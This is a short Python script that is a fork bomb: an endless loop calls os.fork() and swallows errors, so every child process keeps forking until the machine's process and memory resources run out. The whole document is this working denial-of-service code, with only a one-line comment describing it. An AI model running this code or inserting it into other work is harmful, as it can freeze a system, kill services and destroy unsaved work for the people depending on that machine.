# Fork forever; children do the same.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
